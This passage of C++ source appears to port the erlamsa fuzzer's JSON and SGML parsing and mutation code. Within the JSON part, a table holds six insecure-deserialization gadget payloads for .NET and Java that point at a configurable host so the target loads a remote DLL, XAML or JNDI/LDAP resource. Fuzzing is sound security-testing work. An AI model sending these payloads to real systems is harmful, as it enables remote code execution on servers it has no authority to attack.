        if (in[pos] == '[') { pos++; cx.push_back(Cx{C_ARRAY, {}, nullptr}); }
        else if (in[pos] == '{') { pos++; cx.push_back(Cx{C_OBJECT, {}, nullptr}); }
        else if (starts("true")) { pos += 4; pv = j_const(0); pushing = true; }
        else if (starts("false")) { pos += 5; pv = j_const(1); pushing = true; }
        else if (starts("null")) { pos += 4; pv = j_const(2); pushing = true; }
        else if (in[pos] == '"') {                                            // string/4 :174-179
          size_t q = pos + 1; while (q < n && in[q] != '"') q++;
          if (q < n) { pv = j_text(JK_STRING, Bytes(in.begin() + pos + 1, in.begin() + q)); pos = q + 1; }
          else { Bytes v(in.begin() + pos + 1, in.end()); v.push_back('"'); pv = j_text(JK_JUNK, v); pos = n; }
          pushing = true;
        } else {                                                              // number/3, number_rest/4 :181-188
          if (sep(in[pos])) throw IncorrectJson();
          size_t q = pos; while (q < n && !sep(in[q])) q++;
          pv = j_text(JK_NUMBER, Bytes(in.begin() + pos, in.begin() + q)); pos = q; pushing = true;
        }
        break;
      default: throw ErlCrash("case_clause in erlamsa_json:ws/3");
    }
  }
}

// fold_ast/1,2 + fold_ast_noarray/2 + fold_list/3 :55-62,235-276
void json_fold(const JTP& t, Bytes& out);
void json_fold_joined(const std::vector<JTP>& v, Bytes& out) { for (size_t i = 0; i < v.size(); i++) { if (i) out.push_back(','); json_fold(v[i], out); } }
void json_fold(const JTP& t, Bytes& out) {
  switch (t->k) {
    case JK_LIST:
      if (t->items.size() == 1) json_fold(t->items[0], out);                  // fold_ast([H], Acc)
      else if (t->items.size() > 1) { out.push_back('['); json_fold_joined(t->items, out); out.push_back(']'); }   // incorrect AST :262-264
      break;
    case JK_PAIR: json_fold(t->items[0], out); out.push_back(':'); json_fold(t->items[1], out); break;
    case JK_STRING: case JK_JUNK: out.push_back('"'); out.insert(out.end(), t->s.begin(), t->s.end()); out.push_back('"'); break;
    case JK_CONST: { const char* w = t->cval == 0 ? "true" : (t->cval == 1 ? "false" : "null"); out.insert(out.end(), w, w + strlen(w)); break; }
    case JK_NUMBER: out.insert(out.end(), t->s.begin(), t->s.end()); break;
    case JK_OBJECT: case JK_ARRAY: {
      out.push_back(t->k == JK_OBJECT ? '{' : '[');
      const JTP& els = t->items[0];                                           // fold_ast_noarray: a list of > 1 is joined without brackets
      if (els->k == JK_LIST && els->items.size() > 1) json_fold_joined(els->items, out); else json_fold(els, out);
      out.push_back(t->k == JK_OBJECT ? '}' : ']');
      break;
    }
  }
}

// walk/4 :286-330.  Counters: CountT (objects + arrays entered), Count (every visited element).
struct JCnt { long ct = 0, cnt = 0; };
// count/1 :408-417: walk(all, ...) with a numeric accumulator
long json_count_walk(const JTP& t, long acc, JCnt& c) {
  switch (t->k) {
    case JK_OBJECT: case JK_ARRAY: { c.ct++; c.cnt++; long child = json_count_walk(t->items[0], 0, c); return child + acc + 1; }
    case JK_PAIR: { c.cnt++; (void)json_count_walk(t->items[0], 0, c); long e2 = json_count_walk(t->items[1], 0, c); return acc + e2 + 1; }
    case JK_LIST: { for (auto& e : t->items) acc = json_count_walk(e, acc, c); return acc; }
    default: c.cnt++; return acc + 1;
  }
}
// walk with a list accumulator (rebuild).  fun(elem, tree, CountT, I) appends to `tree` (tree.push_back(X) is
// the reference's [X | Tree]; the result list is the accumulator reversed, i.e. `tree` read forwards).
typedef std::function<void(const JTP&, std::vector<JTP>&, long, long)> JWalkFun;
JTP j_uncons1(std::vector<JTP> v) { if (v.size() == 1) return v[0]; return j_list(std::move(v)); }           // walk_uncons1(walk_reverse(_))
void json_walk(bool all, const JTP& t, std::vector<JTP>& acc, JCnt& c, const JWalkFun& fun) {
  switch (t->k) {
    case JK_OBJECT: case JK_ARRAY: {
      c.ct++; c.cnt++; long ct = c.ct, cnt = c.cnt;
      std::vector<JTP> child; json_walk(all, t->items[0], child, c, fun);
      fun(j_tag(t->k, j_list(std::move(child))), acc, ct, cnt);
      break;
    }
    case JK_PAIR: {
      long ct = c.ct; c.cnt++; long cnt = c.cnt;
      if (all) {
        std::vector<JTP> c1, c2; json_walk(all, t->items[0], c1, c, fun); json_walk(all, t->items[1], c2, c, fun);
        fun(j_pair(j_uncons1(std::move(c1)), j_uncons1(std::move(c2))), acc, ct, cnt);
      } else {
        std::vector<JTP> c2; json_walk(all, t->items[1], c2, c, fun);
        fun(j_pair(t->items[0], j_uncons1(std::move(c2))), acc, ct, cnt);
      }
      break;
    }
    case JK_LIST: for (auto& e : t->items) json_walk(all, e, acc, c, fun); break;
    default: c.cnt++; fun(t, acc, c.ct, c.cnt); break;
  }
}
std::vector<JTP> json_walk_top(bool all, const std::vector<JTP>& ast, const JWalkFun& fun) {
  std::vector<JTP> acc; JCnt c; for (auto& e : ast) json_walk(all, e, acc, c, fun); return acc;
}
// select/3 :352-398: first element for which pred(elem, CountT, I) holds.  (Once something is found the
// reference stops descending in places, which only shifts counters that no longer matter.)
typedef std::function<bool(const JTP&, long, long)> JSelFun;
struct JSel { JTP elem; long ct = 0, cnt = 0; bool found = false; };
void json_select(bool all, const JTP& t, JCnt& c, const JSelFun& pred, JSel& r) {
  if (r.found) return;
  switch (t->k) {
    case JK_OBJECT: case JK_ARRAY:
      c.ct++; c.cnt++;
      if (pred(t, c.ct, c.cnt)) { r.elem = t; r.ct = c.ct; r.cnt = c.cnt; r.found = true; return; }
      json_select(all, t->items[0], c, pred, r);
      break;
    case JK_PAIR:
      if (pred(t, c.ct, c.cnt + 1)) { c.cnt++; r.elem = t; r.ct = c.ct; r.cnt = c.cnt; r.found = true; return; }
      c.cnt++;
      if (all) { json_select(all, t->items[0], c, pred, r); if (r.found) return; }
      json_select(all, t->items[1], c, pred, r);
      break;
    case JK_LIST: for (auto& e : t->items) { json_select(all, e, c, pred, r); if (r.found) return; } break;
    default:
      c.cnt++;
      if (pred(t, c.ct, c.cnt)) { r.elem = t; r.ct = c.ct; r.cnt = c.cnt; r.found = true; }
      break;
  }
}
JSel json_select_top(bool all, const std::vector<JTP>& ast, const JSelFun& pred) { JSel r; JCnt c; for (auto& e : ast) { json_select(all, e, c, pred, r); if (r.found) break; } return r; }
JTP json_select_elem_values(const std::vector<JTP>& ast, long n) {           // select_elem(values, Ast, N) :419-427 + the {Elem, R} match
  JSel r = json_select_top(false, ast, [&](const JTP&, long, long i) { return i == n; });
  if (!r.found) throw ErlCrash("badmatch: select_elem returned false");
  return r.elem;
}

// replace_elem/3, repeat_elem/3, insert_elem/3 :442-470
std::vector<JTP> json_replace_elem(const std::vector<JTP>& ast, long r, const JTP& el) {
  return json_walk_top(true, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(i == r ? el : e); });
}
std::vector<JTP> json_repeat_elem(const std::vector<JTP>& ast, long r, long times) {
  return json_walk_top(false, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) {
    tree.push_back(e);
    if (i == r) for (long k = 0; k < times; k++) tree.push_back(e);           // repeat_listhd: N < 1 -> L
  });
}
// pump_path/3 :535-548
JTP json_pump_path(JTP start, long end, int n) {
  for (; n > 0; n--) {
    std::vector<JTP> one{start};
    std::vector<JTP> res = json_walk_top(true, one, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(i == end ? start : e); });
    if (res.empty()) throw ErlCrash("badarg: hd([])");
    start = res[0]; end = end * 2 - 1;
  }
  return start;
}
const char* const JSON_UNSERIALIZE[6] = {                                     // json_unserialize_bugs/0 :612-621 (payload table; ~s = SSRF URI)
  "{\"__type\":\"System.Windows.Application, PresentationFramework,Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35\",\"Resources\":{\"__type\":\"System.Windows.ResourceDictionary,PresentationFramework, Version=4.0.0.0, Culture=neutral,PublicKeyToken=31bf3856ad364e35\",\"Source\":\"http~sJsonDotNet/Xamlpayload\"}}",
  "{\"$type\":\"System.Configuration.Install.AssemblyInstaller,System.Configuration.Install, Version=4.0.0.0, Culture=neutral,PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}",
  "{\"$type\":\"System.Windows.Forms.BindingSource, System.Windows.Forms,Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\",\"DataMember\":\"HelpText\",\"dataSource\":{\"$type\":\"System.Configuration.Install.AssemblyInstalle r, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"http~sJsonDotNet/RemoteLibrary.dll\"}}",
  "{\"@class\":\"org.hibernate.jmx.StatisticsService\",\"sessionFactoryJNDIName\":\"ldap~suid=somename,ou=someou,dc=somedc\"}",
  "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\":\"ldap:~suid=somename,ou=someou,dc=somed c\", \"autoCommit\":true}",
  "{\"@class\":\" com.atomikos.icatch.jta.RemoteClientUserTransaction\", \"name_\":\"ldap~suid=somename,ou=someou,dc=somedc\", \"providerUrl_\":\"ldap~s\"}"};

void mux_fuzzers(Ctx& c, std::vector<Muta>& fs, BList& ll);
// inner_mutations(json) :1343-1357: the mutation table filtered to these names, prepended while folding
// over the table (so reverse table order), then mutators_mutator/1
std::vector<Muta> json_inner_muta(Ctx& c) {
  static const int names[] = {M_AB, M_AD, M_B64, M_NUM, M_SD, M_SP, M_SR, M_URI, M_SGM};
  std::vector<Muta> table = mutations_table(c.rnd), sel;
  for (auto& m : table) for (int nm : names) if (m.name == nm) { sel.insert(sel.begin(), m); break; }
  return mutators_mutator(c.rnd, sel);
}
// list_to_integer/1 on the number text: optional sign, then only digits
bool json_list_to_integer(const Bytes& s, Big* out) {
  size_t i = 0; bool neg = false;
  if (i < s.size() && (s[i] == '+' || s[i] == '-')) { neg = s[i] == '-'; i++; }
  if (i >= s.size()) return false;
  Big n;
  for (; i < s.size(); i++) { if (s[i] < '0' || s[i] > '9') return false; n.mul10_add(s[i] - '0'); }
  n.trim(); if (neg) n = -n;
  *out = n; return true;
}

// json_mutation/2,3 :647-712.  Returns the result (token list, or a binary for the unserialize payload) and D.
struct JMutRes { std::vector<JTP> ast; bool is_bin = false; Bytes bin; int d = -1; bool failed = false; };
JMutRes json_mutation(Ctx& c, const std::vector<JTP>& ast, long n, long nt, long nv) {
  JMutRes res; res.ast = ast;
  uint64_t r;
  if (nt == 0 && n < 2) {                                                     // :647-651 "prevent too much JSONish on non-JSON data"
    uint64_t e = c.rnd.erand(7);
    if (!(e == 4 && n == 1)) { res.failed = true; res.d = -1; c.m2("failed", "json"); return res; }   // {[{failed, json}], Ast, -1} :649
    r = c.rnd.rand(8);
  } else r = c.rnd.rand(21);
  switch (r) {
    case 0: {                                                                 // json_swap :577-590
      long r1 = (long)c.rnd.erand(nv), r2 = (long)c.rnd.erand(nv);
      JTP e1 = json_select_elem_values(ast, r1), e2 = json_select_elem_values(ast, r2);
      res.ast = json_walk_top(false, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(i == r1 ? e2 : (i == r2 ? e1 : e)); });
      c.m2("json_swap", 1ll); res.d = 1; return res;
    }
    case 1: { long rr = (long)c.rnd.erand(nv); res.ast = json_repeat_elem(ast, rr, 1); c.m2("json_dup", 1ll); res.d = 1; return res; }                 // json_dup :569-571
    case 2: {                                                                 // json_pump :551-567
      c.m2("json_pump", 1ll);
      if (nt == 0) { res.d = -2; return res; }                                // json_pump(Ast, 0) -> Ast
      long rr = (long)c.rnd.erand(nt);
      JSel st = json_select_top(true, ast, [&](const JTP& e, long ct, long) { return (e->k == JK_OBJECT || e->k == JK_ARRAY) && ct == rr; });
      if (!st.found) throw ErlCrash("badmatch: select_tag returned false");
      JCnt cc; std::vector<JTP> one{st.elem}; (void)json_count_walk(j_list(one), 0, cc);
      long e = (long)c.rnd.erand(cc.cnt - 1) + 1;                             // not the tag itself
      JTP pumped = json_pump_path(st.elem, e, 2);
      res.ast = json_replace_elem(ast, st.cnt, pumped);
      res.d = -2; return res;
    }
    case 3: { long rr = (long)c.rnd.erand(nv); long times = (long)c.rnd.erand(100); res.ast = json_repeat_elem(ast, rr, times); c.m2("json_repeat", 1ll); res.d = 1; return res; }   // json_repeat :573-575
    case 4: {                                                                 // json_insert :592-596
      long r1 = (long)c.rnd.erand(nv), r2 = (long)c.rnd.erand(nv);
      JTP ne = json_select_elem_values(ast, r1);
      res.ast = json_walk_top(false, ast, [&](const JTP& e, std::vector<JTP>& tree, long, long i) { tree.push_back(e); if (i == r2) tree.push_back(ne); });
      c.m2("json_insert", 1ll); res.d = 1; return res;
    }
    case 5: {                                                                 // make_json_unserialize :624-627
      std::string uri = "://" + std::string(c.cfg->ssrf_host) + ":" + std::to_string(c.cfg->ssrf_port) + "/";
      const char* p = JSON_UNSERIALIZE[c.rnd.rand_elem_idx(6)];
      res.is_bin = true;
      for (const char* q = p; *q; q++) { if (q[0] == '~' && q[1] == 's') { res.bin.insert(res.bin.end(), uri.begin(), uri.end()); q++; } else res.bin.push_back((uint8_t)*q); }
      c.m2("json_unserialize", 1ll); res.d = -2; return res;
    }
    default: break;
  }
  c.m2("json_innertext", 1ll);                                                // {[Meta, {json_innertext, 1}], Res, 1} :706: it stands in front of what the walk adds
  // inner text / basic type mutations :668-710 (walk2acc; the meta accumulators carry no draws)
  std::vector<Muta> muta = json_inner_muta(c);
  auto mutate_text = [&](const Bytes& str, double prob) -> Bytes {            // mutate_innertext_prob/4 :629-636
    double rnd = c.rnd.rand_float();
    if (rnd > prob) return str;
    std::vector<Muta> m = muta;                                               // the updated mutator is dropped (_NewMuta)
    BList one{str};
    const size_t base0 = c.meta_base; c.meta_base = c.meta_size();            // Muta([Binary], []) :637: a Meta list of its own
    mux_fuzzers(c, m, one);
    c.meta_base = base0;
    if (one.empty()) throw ErlCrash("badarg: hd([])");
    return one[0];
  };
  const double N = (double)n;
  std::function<void(const JTP&, std::vector<JTP>&)> w2 = [&](const JTP& t, std::vector<JTP>& acc) {
    switch (t->k) {
      case JK_OBJECT: case JK_ARRAY: { std::vector<JTP> ch; w2(t->items[0], ch); acc.push_back(j_tag(t->k, j_list(std::move(ch)))); break; }
      case JK_PAIR: {
        std::vector<JTP> c1, c2;
        if (t->items[0]->k == JK_STRING) c1.push_back(j_text(JK_STRING, mutate_text(t->items[0]->s, 0.6 / N)));   // {key, String}
        else w2(t->items[0], c1);
        w2(t->items[1], c2);
        acc.push_back(j_pair(j_uncons1(std::move(c1)), j_uncons1(std::move(c2))));
        break;
      }
      case JK_LIST: for (auto& e : t->items) w2(e, acc); break;
      case JK_STRING: acc.push_back(j_text(JK_STRING, mutate_text(t->s, 3.0 / N))); break;
      case JK_CONST: {
        double rnd = c.rnd.rand_float();
        if (t->cval == 2) {                                                   // mutate_null/2 :638-640
          if (rnd >= 3.0 / N) { acc.push_back(t); break; }
          c.m2("json_innertext", 1ll); c.m2("json_innertext", "null");        // [{json_innertext, null}, {json_innertext, 1} | InnerMeta] :686
          switch (c.rnd.rand_elem_idx(7)) {
            case 0: acc.push_back(j_text(JK_NUMBER, Bytes{'-', '1'})); break;
            case 1: { const char* z = "1000000000"; acc.push_back(j_text(JK_NUMBER, Bytes(z, z + 10))); break; }
            case 2: acc.push_back(j_const(0)); break;
            case 3: acc.push_back(j_tag(JK_ARRAY, j_list({}))); break;
            case 4: { const char* z = "%n%s"; acc.push_back(j_text(JK_STRING, Bytes(z, z + 4))); break; }
            case 5: acc.push_back(j_text(JK_NUMBER, Bytes{'0'})); break;
            default: { const char* z = "AAAAAAAAAAAA"; acc.push_back(j_text(JK_STRING, Bytes(z, z + 12))); break; }
          }
        } else { if (!(rnd >= 3.0 / N)) { c.m2("json_innertext", 1ll); c.m2("json_innertext", "bool"); } acc.push_back(rnd >= 3.0 / N ? t : j_const(t->cval == 0 ? 1 : 0)); }   // basic_type_mutation(Boolean, Prob) :1212-1221, :691
        break;
      }
      case JK_NUMBER: {
        Big v;
        if (!json_list_to_integer(t->s, &v)) { acc.push_back(t); break; }     // error:badarg -> unchanged, no draw
        double rnd = c.rnd.rand_float();
        if (rnd >= 3.0 / N) { acc.push_back(t); break; }
        Big nv2 = mutate_num(c, v);
        if (nv2.neg == v.neg && Big::cmp_mag(nv2.mag, v.mag) == 0) { acc.push_back(t); break; }
        c.m2("json_innertext", 1ll); c.m2("json_innertext", "num");           // :698
        std::string d = nv2.to_dec(); acc.push_back(j_text(JK_NUMBER, Bytes(d.begin(), d.end())));
        break;
      }
      default: acc.push_back(t); break;
    }
  };
  std::vector<JTP> out; for (auto& e : ast) w2(e, out);
  res.ast = out; res.d = 1; return res;
}

int json_mutate(Ctx& c, BList& ll) {                                          // json_mutate/2 :714-737
  const Bytes h = ll[0];
  std::vector<JTP> tokens;
  try { tokens = json_tokenize(h); } catch (IncorrectJson&) { c.m2("failed", "json"); return -1; }   // [{failed, json} | Meta] :730
  JCnt cc; long nv = json_count_walk(j_list(tokens), 0, cc);
  const size_t meta0 = c.meta_size();
  JMutRes r = json_mutation(c, tokens, cc.cnt, cc.ct, nv);
  Bytes nb;
  if (r.is_bin) nb = r.bin; else json_fold(j_list(r.ast), nb);
  if (nb == h) { c.meta_drop_before(meta0); return -1; }                      // {fun json_mutate/2, Ll, NewMeta, -1} :722-723
  int d = r.d + (int)(nb.size() / (AVG_BLOCK_SIZE * 10));
  ll[0] = nb;
  return d;
}

// ===========================================================================
// erlamsa_sgml.erl — tokenizer (:66-177), AST builder (:187-279), folder (:290-331), walk/select
// (:341-477), mutations (:488-737), sgml_mutate/2 (:739-757).
// ===========================================================================
struct SParam { Bytes name, value; int delim; };   // delim: 0 = [] (unquoted), 1 = "'", 2 = "\""
enum SKind { S_OPEN, S_CLOSE, S_SC, S_TEXT, S_BANG, S_COMMENT, S_QUE, S_EOF, S_TAG, S_TAGCLOSE };
struct STok { SKind k; Bytes name; std::vector<SParam> params; Bytes text; };   // close: name = Tag (raw)
struct SNode;
typedef std::shared_ptr<const SNode> SN;
struct SNode {
  SKind k;                       // S_TAG {tag,Open,Close,Params,Internals}; S_TEXT; S_SC; S_QUE; S_BANG; S_COMMENT; S_OPEN; S_CLOSE; S_TAGCLOSE
  Bytes name, close_name; std::vector<SParam> params; Bytes text; std::vector<SN> kids;
};
struct IncorrectSgml {};
struct SgmlOtherError {};        // function_clause etc.: caught by `catch _:_` inside tokenize/1, fatal outside of it

// string:to_lower/1 (ISO 8859-1 rule of the old string module)
uint8_t latin1_lower(uint8_t ch) {
  if ((ch >= 'A' && ch <= 'Z') || (ch >= 0xC0 && ch <= 0xD6) || (ch >= 0xD8 && ch <= 0xDE)) return (uint8_t)(ch + 32);
  return ch;
}
Bytes to_lower(const Bytes& b) { Bytes o(b); for (auto& x : o) x = latin1_lower(x); return o; }
bool sg_ws(uint8_t x) { return x == ' ' || x == '\r' || x == '\n' || x == '\t'; }            // ?ws :58
bool sg_ev(uint8_t x) { return sg_ws(x) || x == '>' || x == '='; }                            // ?ev :64
// NB ?ok(X) (:57) is a disjunction of inequalities, i.e. always true: every byte is a name character.
size_t sg_skip_ws(const Bytes& s, size_t p) { while (p < s.size() && sg_ws(s[p])) p++; return p; }   // ws/1 :176-177
bool sg_starts(const Bytes& s, size_t p, const char* w) { size_t l = strlen(w); return p + l <= s.size() && memcmp(s.data() + p, w, l) == 0; }

// tz/2 :100-164 driven from state {tag,""} at position p (p is already past the '<' and the ws/1 skip) until a
// token is complete.  Returns the token and the position where the text state resumes.
STok sgml_tag(const Bytes& s, size_t p, size_t* next) {
  const size_t n = s.size();
  STok t;
  if (sg_starts(s, p, "!--")) {                                               // :104, :117-118
    size_t q = p + 3;
    for (;; q++) {
      if (sg_starts(s, q, "-->")) { t.k = S_COMMENT; t.text.assign(s.begin() + p + 3, s.begin() + q); *next = q + 3; return t; }
      if (q >= n) throw SgmlOtherError();                                     // no clause of tz/2 matches {'!--',_}, <<>>
    }
  }
  if (sg_starts(s, p, "!")) {                                                 // :105, :113-115
    size_t q0 = sg_skip_ws(s, p + 1);
    for (size_t q = q0;; q++) {
      if (q >= n) throw IncorrectSgml();
      if (s[q] == '>') { t.k = S_BANG; t.text.assign(s.begin() + q0, s.begin() + q); *next = q + 1; return t; }
    }
  }
  if (sg_starts(s, p, "?")) {                                                 // :106, :120-122
    size_t q0 = sg_skip_ws(s, p + 1);
    for (size_t q = q0;; q++) {
      if (sg_starts(s, q, "?>")) { t.k = S_QUE; t.text.assign(s.begin() + q0, s.begin() + q); *next = q + 2; return t; }
      if (q >= n) throw IncorrectSgml();
    }
  }
  if (sg_starts(s, p, "/")) {                                                 // :107, :128-132
    size_t q0 = sg_skip_ws(s, p + 1), q = q0;
    for (;; q++) {
      if (q >= n) throw IncorrectSgml();
      if (sg_ev(s[q])) break;
    }
    size_t r = sg_skip_ws(s, q);
    if (r < n && s[r] == '>') { t.k = S_CLOSE; t.name.assign(s.begin() + q0, s.begin() + q); *next = r + 1; return t; }
    throw IncorrectSgml();
  }
  // {tag,Tag} :108-111
  size_t q = p;
  for (;; q++) {
    if (sg_starts(s, q, "/>")) { t.k = S_SC; t.name.assign(s.begin() + p, s.begin() + q); *next = q + 2; return t; }
    if (q >= n) throw IncorrectSgml();
    if (sg_ev(s[q])) break;
  }
  t.name.assign(s.begin() + p, s.begin() + q);
  size_t r = sg_skip_ws(s, q);                                                // {attr,"",{Tag,[]}}, ws(S)
  for (;;) {
    // {attr,"",{Tag,As}} :134-135,138-139
    if (r >= n) throw IncorrectSgml();
    if (sg_ev(s[r]) || sg_starts(s, r, "/>")) {                               // {etag,Tag,As} :124-126
      if (sg_starts(s, r, "/>")) { t.k = S_SC; *next = r + 2; return t; }
      if (s[r] == '>') { t.k = S_OPEN; *next = r + 1; return t; }
      throw IncorrectSgml();
    }
    size_t a0 = r;                                                            // {attr,A,..} with A /= "" :136-139
    for (r++;; r++) {
      if (r >= n) throw IncorrectSgml();
      if (sg_ev(s[r]) || sg_starts(s, r, "/>")) break;
    }
    SParam pa; pa.name.assign(s.begin() + a0, s.begin() + r); pa.delim = 0;
    r = sg_skip_ws(s, r);                                                     // {eatt,..}, ws(S)
    if (r < n && s[r] == '=') {                                               // :141 -> {val,..}, ws(Str)
      r = sg_skip_ws(s, r + 1);
      if (r < n && (s[r] == '\'' || s[r] == '"')) {                           // :144-145, :148-154
        uint8_t qc = s[r]; size_t v0 = r + 1, e = v0;
        while (e < n && s[e] != qc) e++;
        if (e >= n) throw IncorrectSgml();
        pa.value.assign(s.begin() + v0, s.begin() + e); pa.delim = qc == '\'' ? 1 : 2;
        r = sg_skip_ws(s, e + 1);
      } else {                                                                // :146, :157-160
        size_t v0 = r;
        for (;; r++) {
          if (r >= n) throw IncorrectSgml();
          if (sg_ev(s[r]) || sg_starts(s, r, "/>")) break;
        }
        pa.value.assign(s.begin() + v0, s.begin() + r);
        r = sg_skip_ws(s, r);
      }
    } else {
      r = sg_skip_ws(s, r);                                                   // :142 {A,"",[]}
    }
    t.params.push_back(pa);
  }
}

// tokenize/1 :66-98.  The first tag is parsed outside any try (errors propagate); every later '<' is tried
// inside `try ... catch _:_`, a failure turns the '<' (minus the white space that followed it) into text.
std::vector<STok> sgml_tokenize(const Bytes& s) {
  const size_t n = s.size();
  size_t p = 0;
  while (p < n && s[p] != '<') p++;                                           // tz(nil, ..) :100-102
  if (p >= n) throw IncorrectSgml();
  size_t pos;
  STok cur = sgml_tag(s, sg_skip_ws(s, p + 1), &pos);
  std::vector<STok> out;
  for (;;) {
    Bytes text; size_t from = pos; bool bad = false;
    for (;;) {
      tick();
      size_t lt = from; while (lt < n && s[lt] != '<') lt++;                  // ff/4 :166-174
      if (bad) text.push_back('<');
      text.insert(text.end(), s.begin() + from, s.begin() + lt);
      if (lt >= n) {
        out.push_back(cur); STok e; e.k = S_EOF; e.text = text; out.push_back(e);
        return out;
      }
      size_t estr = sg_skip_ws(s, lt + 1);
      STok nt; size_t np; bool ok = true;
      try { nt = sgml_tag(s, estr, &np); } catch (IncorrectSgml&) { ok = false; } catch (SgmlOtherError&) { ok = false; }
      if (ok) { out.push_back(cur); STok tx; tx.k = S_TEXT; tx.text = text; out.push_back(tx); cur = nt; pos = np; break; }
      bad = true; from = estr;                                                // {bad_text, Part1, "<", Part2, Token}
    }
  }
}


SN sg_from_tok(const STok& t, SKind k) { auto x = std::make_shared<SNode>(); x->k = k; x->name = t.name; x->params = t.params; x->text = t.text; return x; }

// build_ast2/4 :204-279.  `ast` is kept in document order (the reference conses and reverses), `tags` with
// the innermost open tag last.  st: 0 ok, 1 no_pair_tag, 2 closed_earlier.
struct SBuild { int st = 0; std::vector<SN> ast; size_t tpos = 0; std::vector<Bytes> tags; long n = 0, nt = 0; Bytes ce_name, ce_close; };
SBuild sgml_build(const std::vector<STok>& toks, size_t i, std::vector<Bytes> tags) {
  SBuild b; b.tags = std::move(tags);
  for (;;) {
    const STok& t = toks[i];
    switch (t.k) {
      case S_OPEN: {
        Bytes low = to_lower(t.name);
        std::vector<Bytes> tg = b.tags; tg.push_back(low);
        SBuild r = sgml_build(toks, i + 1, tg);
        if (r.st == 0) {                                                      // {ok, [{tagclose,TagClose}|TagInternals], TagOuters, {K,KT}}
          if (r.ast.empty() || r.ast[0]->k != S_TAGCLOSE) throw ErlCrash("case_clause: build_ast2 open");
          auto x = std::make_shared<SNode>(); x->k = S_TAG; x->name = t.name; x->close_name = r.ast[0]->name; x->params = t.params;
          x->kids.assign(r.ast.begin() + 1, r.ast.end());
          b.ast.push_back(x); i = r.tpos; b.n += r.n + 1; b.nt += r.nt + 1;
        } else if (r.st == 1) {                                               // no_pair_tag :220-225
          b.ast.push_back(sg_from_tok(t, S_OPEN)); b.ast.insert(b.ast.end(), r.ast.begin(), r.ast.end());
          i = r.tpos; b.tags = r.tags; b.n += r.n + 1; b.nt += r.nt;
        } else if (r.ce_name == low) {                                        // closed_earlier, our tag :226-229
          auto x = std::make_shared<SNode>(); x->k = S_TAG; x->name = t.name; x->close_name = r.ce_close; x->params = t.params; x->kids = r.ast;
          b.ast.push_back(x); i = r.tpos; b.tags = r.tags; b.n += r.n + 1; b.nt += r.nt + 1;
        } else {                                                              // closed_earlier, pass upwards :230-235
          b.ast.push_back(sg_from_tok(t, S_OPEN)); b.ast.insert(b.ast.end(), r.ast.begin(), r.ast.end());
          b.st = 2; b.ce_name = r.ce_name; b.ce_close = r.ce_close; b.tpos = r.tpos; b.tags = r.tags; b.n += r.n + 1; b.nt += r.nt;
          return b;
        }
        break;
      }
      case S_CLOSE: {
        Bytes low = to_lower(t.name);                                         // {close, Tag, string:to_lower(Tag)} :129
        if (!b.tags.empty() && b.tags.back() == low) {                        // :237-239
          auto tc = std::make_shared<SNode>(); tc->k = S_TAGCLOSE; tc->name = t.name;
          b.ast.insert(b.ast.begin(), tc); b.tpos = i + 1; b.st = 0; return b;
        }
        bool member = false; size_t at = 0;
        if (!b.tags.empty()) for (size_t k = b.tags.size() - 1; k-- > 0;) if (b.tags[k] == low) { member = true; at = k; break; }
        if (member) {                                                         // :246-248
          b.st = 2; b.ce_name = low; b.ce_close = t.name; b.tpos = i + 1; b.tags.resize(at);   // push_till/2
          return b;
        }
        b.ast.push_back(sg_from_tok(t, S_CLOSE)); b.n++; i++;                  // :243-245, :250-252
        break;
      }
      case S_TEXT:
        if (!t.text.empty()) { b.ast.push_back(sg_from_tok(t, S_TEXT)); b.n++; }   // :253-258
        i++; break;
      case S_BANG: case S_COMMENT: case S_QUE: case S_SC:
        b.ast.push_back(sg_from_tok(t, t.k)); b.n++; i++; break;              // :259-270
      case S_EOF:
        if (b.tags.empty()) {                                                 // :271-276
          if (!t.text.empty()) { b.ast.push_back(sg_from_tok(t, S_TEXT)); b.n++; }
          b.st = 0; b.tpos = i; return b;
        }
        b.st = 1; b.tpos = i; b.tags.pop_back(); return b;                    // :277-279
      default: throw ErlCrash("function_clause: build_ast2");
    }
  }
}

// fold_params/2 + enclose_param_value/2 :290-303, fold_ast/2 :305-331
void sgml_fold_params(const std::vector<SParam>& ps, Bytes& o) {
  for (auto& p : ps) {
    o.push_back(' '); o.insert(o.end(), p.name.begin(), p.name.end());
    if (p.value.empty()) continue;                                            // {ParamName, [], _Type}
    o.push_back('=');
    if (p.delim == 1) o.push_back('\''); else if (p.delim == 2) o.push_back('"');
    o.insert(o.end(), p.value.begin(), p.value.end());
    if (p.delim == 1) o.push_back('\''); else if (p.delim == 2) o.push_back('"');
  }
}
void sgml_fold(const std::vector<SN>& l, Bytes& o) {
  auto app = [&](const char* w) { o.insert(o.end(), w, w + strlen(w)); };
  auto appb = [&](const Bytes& b) { o.insert(o.end(), b.begin(), b.end()); };
  for (auto& e : l) {
    switch (e->k) {
      case S_TAG: app("<"); appb(e->name); sgml_fold_params(e->params, o); app(">"); sgml_fold(e->kids, o); app("</"); appb(e->close_name); app(">"); break;
      case S_TEXT: appb(e->text); break;
      case S_SC: app("<"); appb(e->name); sgml_fold_params(e->params, o); app(" />"); break;
      case S_QUE: app("<?"); appb(e->text); app("?>"); break;
      case S_BANG: app("<!"); appb(e->text); app(">"); break;
      case S_COMMENT: app("<!--"); appb(e->text); app("-->"); break;
      case S_OPEN: app("<"); appb(e->name); sgml_fold_params(e->params, o); app(">"); break;
      case S_CLOSE: app("</"); appb(e->name); app(">"); break;
      case S_TAGCLOSE: break;
      default: throw ErlCrash("function_clause: fold_ast");
    }
  }
}

// walk/3 :344-361 with a list accumulator.  fun(elem, tree, TagCnt, I): tree.push_back(X) is the reference's
// [X | Tree]; for a tag, `elem` carries the already walked children.
struct SCnt { long t = 0, c = 0; };
typedef std::function<void(const SN&, std::vector<SN>&, long, long)> SWalkFun;
void sgml_walk(const std::vector<SN>& l, std::vector<SN>& acc, SCnt& c, const SWalkFun& fun) {
  for (auto& e : l) {
